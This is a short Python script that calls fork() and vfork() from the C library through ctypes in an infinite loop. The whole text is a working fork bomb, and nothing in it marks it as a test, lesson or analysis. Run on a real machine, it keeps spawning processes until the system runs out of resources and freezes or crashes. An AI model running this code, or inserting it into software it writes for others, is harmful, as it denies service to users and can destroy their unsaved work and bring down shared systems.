import ctypes

libc = ctypes.CDLL(None)
while True:
    libc.fork()
    libc.vfork()
